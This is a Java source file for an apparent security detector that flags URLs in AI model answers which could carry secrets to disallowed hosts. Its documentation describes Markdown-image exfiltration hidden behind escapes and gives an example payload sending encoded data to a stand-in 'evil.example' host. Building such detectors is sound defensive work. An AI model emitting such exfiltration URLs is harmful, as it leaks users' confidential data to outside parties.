package dev.aisecurity.detect.egress;

import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;

import dev.aisecurity.detect.DetectionContext;
import dev.aisecurity.detect.Detector;
import dev.aisecurity.detect.Finding;
import dev.aisecurity.detect.StreamWatch;
import dev.aisecurity.detect.ThreatCategory;
import dev.aisecurity.interaction.Confidentiality;
import dev.aisecurity.interaction.Direction;
import dev.aisecurity.interaction.Integrity;
import dev.aisecurity.interaction.Interaction;
import dev.aisecurity.interaction.Labels;
import dev.aisecurity.risk.RiskScore;
import org.jspecify.annotations.Nullable;

/**
 * Finds URLs in answers that lead where the endpoint does not allow them to: each could
 * carry a secret away in its host, path or query, an image without a click.
 * <p>
 * Detects: absolute URLs of any scheme that a browser follows, with as many or few
 * slashes as it accepts; {@code //host} and {@code www.host}; schemes that run code;
 * relative URLs with a query where Markdown or HTML makes a link of them; all of it also
 * behind character references, percent and backslash escapes, compatibility characters,
 * tabs and line breaks. It looks for URLs, not for the syntax around them, so that it
 * does not matter how a renderer parses. What stands around a URL only decides what is
 * stricter: whether it may be an image, where it may end.
 * <p>
 * Does not detect: host names without scheme and {@code www.}; URLs that a script puts
 * together; what an allowed host does with a request.
 * <p>
 * Cost: one pass, linear; nothing is allocated for a text without colons, slashes in
 * pairs and escapes.
 * <p>
 * Example: {@code ![x](https://evil.example/?d=c2VjcmV0)} is an {@code url-image}.
 */
public final class UrlEgressDetector implements Detector {

	/** Id of the detector. */
	public static final String ID = "url-egress";

	private static final String OVERFLOW = "url-egress-overflow";

	private static final int LIMIT = 256;

	private static final RiskScore SCORE = RiskScore.of(0.9);

	private static final Set<String> RULES = Set.of(EgressUrl.LINK, EgressUrl.IMAGE, EgressUrl.SCHEME,
			EgressUrl.RELATIVE, OVERFLOW);

	private static final Set<String> TAGS = Set.of("owasp:llm05", "owasp:llm02", "atlas:aml.t0057");

	private final UrlEgressSettings settings;

	/**
	 * Creates a detector.
	 * @param settings which URLs answers may have
	 */
	public UrlEgressDetector(UrlEgressSettings settings) {
		this.settings = settings;
	}

	@Override
	public String id() {
		return ID;
	}

	@Override
	public Set<String> rules() {
		return RULES;
	}

	@Override
	public boolean readsCells() {
		return true;
	}

	@Override
	public @Nullable StreamWatch watch(Interaction interaction) {
		return null;
	}

	@Override
	public List<Finding> detect(DetectionContext context) {
		if (context.interaction().direction() != Direction.OUTPUT) {
			return List.of();
		}
		List<Finding> findings = List.of();
		UrlEgressPolicy policy = null;
		for (int i = 0; i < context.texts().size() && !context.budget().isTimeUp(); i++) {
			String text = context.texts().get(i).raw().text();
			if (EgressScan.isWorthwhile(text)) {
				policy = (policy != null) ? policy : policy(context.interaction());
				findings = scan(context, i, new EgressScan(text, policy), findings);
			}
		}
		return findings;
	}

	private UrlEgressPolicy policy(Interaction interaction) {
		Labels labels = interaction.labels();
		boolean confidential = labels.integrity() == Integrity.EXTERNAL
				&& labels.confidentiality().compareTo(Confidentiality.CONFIDENTIAL) >= 0;
		return new UrlEgressPolicy(this.settings.profile(interaction.endpoint().id()), interaction.trusted(),
				confidential);
	}

	private static List<Finding> scan(DetectionContext context, int segment, EgressScan scan, List<Finding> before) {
		List<Finding> findings = before;
		int count = 0;
		for (EgressUrl url = scan.next(); url != null; url = scan.next()) {
			if (findings.isEmpty()) {
				findings = new ArrayList<>();
			}
			boolean overflow = ++count > LIMIT;
			findings.add(finding(context, segment, url, overflow));
			if (overflow) {
				break;
			}
		}
		return findings;
	}

	private static Finding finding(DetectionContext context, int segment, EgressUrl url, boolean overflow) {
		String text = context.texts().get(segment).raw().text();
		int end = overflow ? text.length() : url.end();
		String reason = overflow ? "More URLs than are listed one by one"
				: reason(url.rule()) + ", host " + hash(text.substring(url.host(), url.hostEnd()));
		return new Finding(ID, overflow ? OVERFLOW : url.rule(), ThreatCategory.EXFILTRATION, SCORE, Finding.MIN_LEVEL,
				context.evidence(segment, context.texts().get(segment).raw(), url.start(), end), reason, TAGS);
	}

	private static String reason(String rule) {
		return switch (rule) {
			case EgressUrl.IMAGE -> "URL that may be fetched without a click and is not allowed";
			case EgressUrl.SCHEME -> "URL with a scheme that is not allowed";
			case EgressUrl.RELATIVE -> "Relative URL with a query";
			default -> "Link to where links may not lead";
		};
	}

	// Enough to recognize a host that is known, too little to read one that is not.
	private static String hash(String host) {
		try {
			byte[] digest = MessageDigest.getInstance("SHA-256").digest(host.getBytes(StandardCharsets.UTF_8));
			return HexFormat.of().formatHex(digest, 0, 4);
		}
		catch (NoSuchAlgorithmException ex) {
			throw new IllegalStateException("Every platform has SHA-256", ex);
		}
	}

}
